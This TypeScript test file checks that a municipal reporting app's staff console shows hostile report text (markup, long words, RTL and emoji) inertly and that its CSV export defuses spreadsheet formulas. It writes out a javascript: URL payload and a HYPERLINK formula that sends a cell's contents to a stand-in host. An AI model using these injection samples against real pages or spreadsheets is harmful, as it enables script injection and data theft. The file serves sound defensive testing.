import { expect, fixture, fixtureCleanup, html } from '@open-wc/testing';
import { setViewport } from '@web/test-runner-commands';
import type { Session } from '../../widget/admin/admin-api.ts';
import type { SegnalaAdmin } from '../../widget/admin/segnala-admin.ts';
import type { Config, ReportDetail } from '../../widget/api.ts';
import { ADMIN, API, MUNICIPALITY, PASSWORD, adminApi, apiLogin, mountAdmin, queueView, reportView, resetAdminPage, rowsOf, setValue, text, until } from './admin-helpers.ts';
import { TILE } from './helpers.ts';
import {
  COMBINING,
  DEFAULT_VIEWPORT,
  EMOJI,
  type Filed,
  FRAGMENTS,
  IMG,
  MARKUP,
  PREFIX,
  RTL,
  RTL_OPEN,
  SCRIPT,
  SQL_OR,
  STREETS,
  SVG,
  TEMPLATE,
  UNICODE,
  WIDTHS,
  ZERO_WIDTH,
  atWidth,
  deepText,
  expectLayoutHolds,
  expectNoInjectedMarkup,
  expectShown,
  expectTrapUntouched,
  fileTo,
  hideReports,
  longWord,
  near,
  publicDetail,
  setTrap,
  shownName,
  squash,
  startHostileStreetsServer,
} from './injection-helpers.ts';

type View = HTMLElement & { shadowRoot: ShadowRoot };

/** The report page's action forms are elements of their own: a query inside each of them (or in the view itself). */
const ACTIONS = 'segnala-admin-status-action, segnala-admin-reply-action, segnala-admin-assign-action, segnala-admin-merge-action';
const inActions = <T extends HTMLElement>(view: View, selector: string) =>
  [...view.shadowRoot.querySelectorAll(ACTIONS)].map((a) => a.shadowRoot!.querySelector<T>(selector)).find((e) => e) ?? null;
const byId = <T extends HTMLElement = HTMLTextAreaElement>(view: View, id: string) => (view.shadowRoot.getElementById(id) ?? inActions(view, `#${id}`)) as T;

/** Checks inertness, and the layout at desktop and phone width (then back to the default size). */
async function expectSafeEverywhere(el: HTMLElement, what: string) {
  expectNoInjectedMarkup(el);
  try {
    for (const size of WIDTHS) {
      await atWidth(size);
      expectLayoutHolds(el, `${what} at ${size.width}px`);
      expectNoInjectedMarkup(el);
    }
  } finally {
    await setViewport(DEFAULT_VIEWPORT);
  }
  await expectTrapUntouched();
}

/** The queue narrowed to the reports these tests filed (by their title prefix), all statuses. */
async function queueOfTests(el: SegnalaAdmin) {
  const queue = (await queueView(el)) as View;
  setValue(byId<HTMLInputElement>(queue, 'f-q'), PREFIX);
  setValue(byId<HTMLSelectElement>(queue, 'f-status'), 'all');
  queue.shadowRoot.querySelector<HTMLButtonElement>('form.filters button[type=submit]')!.click();
  await until(() => rowsOf(queue).length > 0 && rowsOf(queue).every((tr) => text(tr).includes(PREFIX)), 'the queue was not narrowed to the test reports');
  return queue;
}

const CONTACT_NAME = `${IMG} Rossi`;
const CSV_FORMULA = `=HYPERLINK("https://example.invalid/?x="&A1,"${PREFIX} clic")`;

describe('injection: hostile text in the staff console', function () {
  this.timeout(60_000);
  const filed: Filed[] = [];
  let admin: Session;
  let markup: Filed;
  let long: Filed;
  let unicode: Filed;
  let formula: Filed;

  before(async function () {
    this.timeout(60_000);
    admin = await apiLogin(ADMIN);
    const config = (await (await fetch(`${API}/api/v1/${MUNICIPALITY}/config`)).json()) as Config;
    const categoryId = config.categories[0].id;
    const street = (await (await fetch(`${API}/api/v1/${MUNICIPALITY}/streets?q=aurelia&limit=1`)).json()).streets[0];
    [markup, long, unicode, formula] = await Promise.all([
      fileTo(API, {
        categoryId,
        title: `${PREFIX} ${IMG} ${SVG}`,
        details: `${MARKUP}\n${FRAGMENTS}`,
        streetId: street.id,
        civic: SVG,
        location: near(config),
        contact: { name: CONTACT_NAME, email: 'x@example.org', phone: '+39 0584 123456' },
      }),
      fileTo(API, {
        categoryId,
        title: longWord(150, PREFIX),
        details: longWord(5000),
        streetId: street.id,
        civic: longWord(100, '1'),
        location: near(config),
        contact: { name: longWord(200, 'Nome') },
      }),
      fileTo(API, { categoryId, title: `${PREFIX} ${RTL} ${EMOJI}`, details: UNICODE, streetId: street.id, civic: RTL_OPEN, location: near(config) }),
      fileTo(API, { categoryId, title: CSV_FORMULA, details: `+SUM(1,2)\n-2+3\n@cmd`, location: near(config) }),
    ]);
    filed.push(markup, long, unicode, formula);
    await adminApi(admin, `/reports/${long.reference}/replies`, { method: 'POST', body: JSON.stringify({ message: longWord(5000, 'Nota'), internal: true }) });
  });

  after(async function () {
    this.timeout(60_000);
    await setViewport(DEFAULT_VIEWPORT);
    await hideReports(API, admin.token, filed.map((f) => f.reference));
  });

  beforeEach(() => {
    resetAdminPage();
    setTrap();
  });

  afterEach(expectTrapUntouched);

  it('the queue shows hostile titles, places and the long word as text; the table holds at desktop and phone width', async () => {
    const el = await mountAdmin({ as: admin });
    const queue = await queueOfTests(el);
    for (const f of filed) {
      const row = await until(() => rowsOf(queue).find((tr) => tr.dataset.reference === f.reference), `${f.reference} not in the queue`);
      expect(text(row.querySelector('a.title')), f.reference).to.equal(squash(f.sent.title));
      if (f.sent.civic) expectShown(row, f.sent.civic, `the civic number of ${f.reference}`);
      // The title links to the report inside the console, never elsewhere.
      expect(row.querySelector('a.title')!.getAttribute('href')).to.equal(`#segnala-admin/report/${f.reference}`);
    }
    await expectSafeEverywhere(el, 'the queue');
  });

  for (const which of ['markup', 'long', 'unicode'] as const) {
    it(`a report's page (${which}): title, description, place and reporter shown as text; layout holds`, async () => {
      const f = { markup, long, unicode }[which];
      const el = await mountAdmin({ as: admin, hash: `#segnala-admin/report/${f.reference}` });
      const view = (await reportView(el)) as View;
      expect(text(view.shadowRoot.querySelector('article h2'))).to.equal(squash(f.sent.title));
      expect(text(view.shadowRoot.querySelector('.details'))).to.equal(squash(f.sent.details));
      expectShown(view, f.sent.civic!, 'the civic number');
      if (f.sent.contact?.name) expectShown(view.shadowRoot.querySelector('dl.contact')!, f.sent.contact.name, 'the reporter’s name');
      if (f === markup) {
        const links = [...view.shadowRoot.querySelectorAll<HTMLAnchorElement>('dl.contact a')].map((a) => a.getAttribute('href'));
        expect(links).to.deep.equal(['mailto:x@example.org', 'tel:+390584123456']);
      }
      if (f === long) expect([...view.shadowRoot.querySelectorAll('ol.history blockquote')].map(text)).to.include(longWord(5000, 'Nota'));
      await expectSafeEverywhere(el, `the console page of the ${which} report`);
    });
  }

  it('replies, notes and status messages typed in the console are kept as typed and shown as text, here and to citizens', async () => {
    const el = await mountAdmin({ as: admin, hash: `#segnala-admin/report/${markup.reference}` });
    const view = (await reportView(el)) as View;
    const historyHas = (s: string) => [...view.shadowRoot.querySelectorAll('ol.history blockquote')].some((q) => text(q) === squash(s));

    const reply = `${SCRIPT} ${TEMPLATE} ${EMOJI} ${ZERO_WIDTH} ${longWord(300, 'Risposta')}`;
    setValue(byId(view, 'a-reply'), reply);
    inActions<HTMLButtonElement>(view, 'button[value=public]')!.click();
    await until(() => historyHas(reply), 'the public reply is not in the history');

    const note = `${IMG} ${SQL_OR} ${COMBINING}`;
    setValue(byId(view, 'a-reply'), note);
    inActions<HTMLButtonElement>(view, 'button[value=internal]')!.click();
    await until(() => historyHas(note), 'the internal note is not in the history');

    const message = `${SVG} ${RTL} javascript:window.__pwned='status'`;
    setValue(byId<HTMLSelectElement>(view, 'a-status'), 'in_progress');
    await (view as unknown as { updateComplete: Promise<unknown> }).updateComplete;
    setValue(byId(view, 'a-message'), message);
    inActions<HTMLButtonElement>(view, 'form[aria-labelledby=h-status] button[type=submit]')!.click();
    await until(() => historyHas(message), 'the status message is not in the history');
    await expectSafeEverywhere(el, 'the report after replies');

    const pub = await publicDetail<ReportDetail>(API, markup.reference);
    const messages = pub.events.map((e) => e.message);
    expect(messages).to.include(reply).and.include(message);
    expect(messages).not.to.include(note);
    expect(JSON.stringify(pub)).not.to.contain('Rossi');
  });

  it('the CSV export keeps hostile text as data and defuses spreadsheet formulas', async () => {
    const res = await fetch(`${API}/api/v1/${MUNICIPALITY}/admin/reports.csv?status=all&q=${encodeURIComponent(PREFIX)}`, {
      headers: { Authorization: `Bearer ${admin.token}` },
    });
    expect(res.status).to.equal(200);
    const csv = await res.text();
    // RFC 4180: a field with quotes is quoted, its quotes doubled.
    expect(csv).to.contain(`"${markup.sent.title.replace(/"/g, '""')}"`);
    // A cell that starts with = + - @ would be run by a spreadsheet: it starts with ' instead.
    expect(csv).to.contain(`"'${CSV_FORMULA.replace(/"/g, '""')}"`);
    expect(csv).not.to.match(/(^|,)"?[=+@]/m);
    expect(csv).to.contain(longWord(150, PREFIX));
    // The console offers the export as a download: pressing it reports no error.
    const el = await mountAdmin({ as: admin });
    const queue = await queueOfTests(el);
    const button = [...queue.shadowRoot.querySelectorAll<HTMLButtonElement>('.toolbar button')].find((b) => text(b).includes('CSV'))!;
    button.click();
    await until(() => !button.disabled && !text(button).includes('…'), 'the export did not finish');
    expect(queue.shadowRoot.querySelector('.notice.error')).to.equal(null);
  });

  describe('street names from the municipal street list', () => {
    let hostileApi: string;
    let session: Session;
    const onStreets: Filed[] = [];

    before(async function () {
      this.timeout(150_000);
      hostileApi = (await startHostileStreetsServer(Object.values(STREETS))).api;
      const login = await fetch(`${hostileApi}/api/v1/${MUNICIPALITY}/admin/login`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ email: ADMIN, password: PASSWORD }),
      });
      session = await login.json();
      const streets: { id: number; name: string }[] = (await (await fetch(`${hostileApi}/api/v1/${MUNICIPALITY}/streets/summary`)).json()).streets;
      const cfg = (await (await fetch(`${hostileApi}/api/v1/${MUNICIPALITY}/config`)).json()) as Config;
      const categoryId = cfg.categories[0].id;
      const streetId = (name: string) => streets.find((s) => s.name === shownName(name))!.id;
      onStreets.push(
        ...(await Promise.all(
          [STREETS.img, STREETS.long, STREETS.rtl, STREETS.emoji].map((name, i) =>
            fileTo(hostileApi, { categoryId, title: `${PREFIX} strada ${i}`, details: 'x', streetId: streetId(name), civic: String(i + 1) }),
          ),
        )),
      );
    });

    async function mountOnHostile(hash?: string) {
      sessionStorage.setItem(`segnala-admin:${hostileApi}/api/v1/${MUNICIPALITY}/admin`, JSON.stringify(session));
      if (hash) history.replaceState(null, '', hash);
      const el = await fixture<SegnalaAdmin>(html`<segnala-admin api=${hostileApi} municipality=${MUNICIPALITY} tile-url=${TILE}></segnala-admin>`);
      await until(() => el.shadowRoot!.querySelector('.view > *'), 'the console did not load');
      return el;
    }

    it('the queue and a report’s page show hostile street names as text; the long one holds', async () => {
      const el = await mountOnHostile();
      const queue = await queueOfTests(el);
      for (const [f, name] of onStreets.map((f, i) => [f, [STREETS.img, STREETS.long, STREETS.rtl, STREETS.emoji][i]] as const)) {
        const row = await until(() => rowsOf(queue).find((tr) => tr.dataset.reference === f.reference), `${f.reference} not in the queue`);
        expectShown(row, shownName(name), 'the street');
      }
      await expectSafeEverywhere(el, 'the queue with hostile streets');

      fixtureCleanup();
      const page = await mountOnHostile(`#segnala-admin/report/${onStreets[1].reference}`);
      const view = (await reportView(page)) as View;
      expectShown(view.shadowRoot.querySelector('dl.facts')!, shownName(STREETS.long), 'the long street');
      await expectSafeEverywhere(page, 'the page of a report on the long street');
    });

    it('the street filter of the queue offers hostile names as text', async () => {
      const el = await mountOnHostile();
      const queue = (await queueView(el)) as View;
      const picker = queue.shadowRoot.querySelector('segnala-street-picker')!;
      const input = picker.shadowRoot!.querySelector('input')!;
      input.focus();
      setValue(input, 'onerror');
      const option = await until(
        () => [...picker.shadowRoot!.querySelectorAll('[role=option]')].find((o) => text(o).startsWith(squash(shownName(STREETS.img)))),
        'no suggestion for the <img> street',
      );
      expectNoInjectedMarkup(el);
      (option as HTMLElement).click();
      await until(() => input.value === shownName(STREETS.img), 'the street was not picked');
      queue.shadowRoot.querySelector<HTMLButtonElement>('form.filters button[type=submit]')!.click();
      // (The citizen widget's tests may have filed on that street of this server too.)
      await until(
        () =>
          rowsOf(queue).some((tr) => tr.dataset.reference === onStreets[0].reference) &&
          rowsOf(queue).every((tr) => deepText(tr).includes(squash(shownName(STREETS.img)))),
        'the street filter did not narrow the queue to that street',
      );
      await expectSafeEverywhere(el, 'the queue filtered by a hostile street');
    });
  });
});
